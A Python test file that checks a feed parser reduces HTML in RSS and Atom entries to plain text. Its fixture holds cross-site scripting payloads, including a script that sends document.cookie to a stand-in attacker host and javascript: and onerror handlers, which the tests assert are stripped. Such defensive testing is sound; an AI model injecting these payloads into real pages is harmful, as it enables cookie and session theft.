"""Markup in a feed's entries reaches Buzzwatch as plain text only.

feedparser's own HTML sanitiser is off (parse_feed strips every field itself): a script,
a style sheet, event-handler attributes and links inside the markup must not survive into
a mention, raw or escaped, in RSS and in Atom."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from sources.rss import parse_feed

NOW = datetime(2026, 11, 28, 8, 0, tzinfo=UTC)
HOSTILE = (
    '<p onclick="steal()">Acme <b>burger</b> was cold</p>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    "<style>body{background:url(https://evil.example/x)}</style>"
    '<img src="x" onerror="alert(1)" alt="[怒]"><a href="javascript:alert(2)">see</a>'
)
ESCAPED = HOSTILE.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _rss(description: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
        "<item><title>Acme &lt;i&gt;news&lt;/i&gt;</title>"
        "<link>https://news.example.com/a</link><guid>https://news.example.com/a</guid>"
        f"<description>{description}</description></item></channel></rss>"
    ).encode()


def _atom(content: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>t</title><id>urn:t</id><updated>2026-11-28T07:00:00Z</updated>"
        "<entry><title type='html'>Acme &lt;i&gt;news&lt;/i&gt;</title><id>urn:a</id>"
        "<updated>2026-11-28T07:00:00Z</updated><link href='https://news.example.com/a'/>"
        f"<content type='html'>{content}</content></entry></feed>"
    ).encode()


@pytest.mark.parametrize(
    "document",
    [_rss(ESCAPED), _rss(f"<![CDATA[{HOSTILE}]]>"), _atom(ESCAPED)],
    ids=["rss-escaped", "rss-cdata", "atom-html"],
)
def test_entry_markup_becomes_plain_text(document: bytes) -> None:
    [m] = parse_feed(document, "feed", NOW)
    assert m.title == "Acme news"
    assert "Acme burger was cold" in m.text
    assert "[怒]" in m.text  # an emoticon's alt text is kept
    for gone in ("<", ">", "script", "document.cookie", "evil.example", "onerror", "javascript"):
        assert gone not in m.text, gone
    assert m.url == "https://news.example.com/a"
